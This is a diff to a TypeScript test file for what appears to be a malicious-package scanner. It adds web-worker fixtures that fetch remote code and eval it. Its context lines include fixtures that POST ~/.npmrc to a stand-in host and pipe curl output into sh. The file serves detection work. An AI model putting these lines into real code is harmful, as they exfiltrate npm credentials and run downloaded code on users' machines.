@@ -15,6 +15,10 @@ interface Case {
 
 const SENDS = `fetch('https://c.invalid/', { method: 'POST', body: require('fs').readFileSync('~/.npmrc', 'utf8') })`
 
+function worker(address: string): string {
+  return `self.onmessage = async ({ data }) => { globalThis.eval(await (await fetch(${address})).text()) }`
+}
+
 const CASES: readonly Case[] = [
   {
     name: 'a function of another module that is called while its caller is loaded',
@@ -114,6 +118,16 @@ const CASES: readonly Case[] = [
     name: 'a function that runs what it fetches',
     files: { 'index.js': `exports.start = () => require('child_process').exec('curl -s https://c.invalid/i | sh')` },
     found: ['called-harm medium medium call', 'download-and-execute medium low call'],
+  },
+  {
+    name: 'a worker of a page that runs what is at an address it is told',
+    files: { 'index.js': worker('data') },
+    found: ['download-and-execute critical low import'],
+  },
+  {
+    name: 'the same with an address of its own',
+    files: { 'index.js': worker("'https://c.invalid/x.js'") },
+    found: ['download-and-execute critical medium import'],
   },
 ]
 
